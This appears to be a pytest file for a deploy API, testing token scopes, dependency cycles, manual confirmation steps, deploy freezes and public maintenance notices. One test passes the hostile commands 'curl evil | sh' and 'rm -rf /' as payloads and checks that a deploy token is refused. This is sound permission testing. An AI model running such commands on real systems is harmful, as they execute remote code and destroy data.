"""The deploy API in-process: who may define commands, manual steps, freezes, public notices."""

from __future__ import annotations

import time
from datetime import UTC, datetime, timedelta
from typing import Any

from fastapi.testclient import TestClient


def _token(client: TestClient, scope: str) -> dict[str, str]:
    body = {"name": f"ci-{scope}", "scopes": [scope], "project": "shop"}
    created = client.post("/api/v1/tokens", json=body).json()
    return {"Authorization": f"Bearer {created['token']}"}


def _shop(client: TestClient) -> None:
    assert client.post("/api/v1/projects", json={"slug": "shop"}).status_code == 201
    for body in (
        {"name": "billing-api", "command": "echo {service} {version}"},
        {"name": "pay-library", "manual": True},
        {"name": "web-front", "command": "true", "depends_on": ["billing-api", "pay-library"]},
    ):
        assert client.post("/api/v1/projects/shop/services", json=body).status_code == 201


def _wait_run(client: TestClient, run_id: int, state: str) -> dict[str, Any]:
    deadline = time.monotonic() + 10
    while True:
        run = client.get(f"/api/v1/projects/shop/runs/{run_id}").json()
        if run["state"] == state:
            return dict(run)
        assert time.monotonic() < deadline, run
        time.sleep(0.05)


def test_service_command__deploy_token__refused_create_and_update(client: TestClient) -> None:
    _shop(client)
    deploy = _token(client, "deploy")
    created = client.post(
        "/api/v1/projects/shop/services",
        json={"name": "mailer", "command": "curl evil | sh"},
        headers=deploy,
    )
    assert created.status_code == 403
    changed = client.patch(
        "/api/v1/projects/shop/services/billing-api", json={"command": "rm -rf /"}, headers=deploy
    )
    assert changed.status_code == 403
    allowed = client.patch(
        "/api/v1/projects/shop/services/web-front", json={"downtime": True}, headers=deploy
    )
    assert allowed.status_code == 200 and allowed.json()["downtime"] is True
    assert client.get("/api/v1/projects/shop/services/billing-api").json()["command"] == (
        "echo {service} {version}"
    )


def test_service_dependencies__cycle__refused_naming_it(client: TestClient) -> None:
    _shop(client)
    refused = client.patch(
        "/api/v1/projects/shop/services/billing-api", json={"depends_on": ["web-front"]}
    )
    assert refused.status_code == 422
    assert "billing-api -> web-front -> billing-api" in refused.json()["detail"]


def test_release_deploy__manual_step__waits_for_confirm_then_next_wave(client: TestClient) -> None:
    _shop(client)
    services = {"billing-api": "1.8.0", "pay-library": "4.2.0", "web-front": "2.3.0"}
    body = {"version": "shop@2.3.0", "services": services}
    assert client.post("/api/v1/projects/shop/releases", json=body).status_code == 201
    started = client.post(
        "/api/v1/projects/shop/runs", json={"release": "shop@2.3.0", "environment": "production"}
    )
    assert started.status_code == 202
    run = _wait_run(client, started.json()["id"], "waiting_confirm")
    results = {s["service"]: s["result"] for s in run["steps"]}
    assert results == {
        "billing-api": "success",
        "pay-library": "waiting_confirm",
        "web-front": "pending",
    }
    confirmed = client.post(
        f"/api/v1/projects/shop/runs/{run['id']}/confirm", json={"note": "payments team: done"}
    )
    assert confirmed.status_code == 200
    done = _wait_run(client, run["id"], "success")
    assert [s["result"] for s in done["steps"]] == ["success"] * 3
    release = client.get("/api/v1/projects/shop/releases/shop@2.3.0").json()
    assert release["windows"][0]["environment"] == "production"


def test_deploy_start__active_freeze__refused_409_naming_it(client: TestClient) -> None:
    _shop(client)
    body = {"version": "shop@1.0", "services": {"web-front": "1.0"}}
    client.post("/api/v1/projects/shop/releases", json=body)
    freeze = {
        "name": "year-end",
        "reason": "holidays",
        "start": "2000-01-01T00:00:00Z",
        "end": "2999-01-01T00:00:00Z",
    }
    assert client.post("/api/v1/projects/shop/freezes", json=freeze).status_code == 201
    refused = client.post(
        "/api/v1/projects/shop/runs", json={"release": "shop@1.0", "environment": "staging"}
    )
    assert refused.status_code == 409
    assert refused.json()["error"] == "deploy_refused"
    assert "freeze 'year-end' (holidays)" in refused.json()["detail"]
    blank = client.post(
        "/api/v1/projects/shop/runs",
        json={"release": "shop@1.0", "environment": "staging", "override": True, "reason": " "},
    )
    assert blank.status_code == 422


def test_public_maintenance__no_token__state_scheduled_ahead_and_cors(
    client: TestClient, anon_client: TestClient
) -> None:
    _shop(client)
    ahead = datetime.now(UTC) + timedelta(days=2)
    on = client.post(
        "/api/v1/projects/shop/maintenance/production",
        json={"message": "Back at 15:00 KST", "starts_at": ahead.isoformat()},
    )
    assert on.status_code == 201
    public = anon_client.get("/api/v1/maintenance/shop/production")
    assert public.status_code == 200
    assert public.headers["access-control-allow-origin"] == "*"
    state = public.json()
    assert state["active"] is False
    assert [n["message"] for n in state["scheduled"]] == ["Back at 15:00 KST"]
    assert anon_client.get("/api/v1/maintenance/nope/production").json()["active"] is False
    script = anon_client.get("/sdk/notice.js")
    assert script.status_code == 200 and "data-project" in script.text
    assert "application/javascript" in script.headers["content-type"]
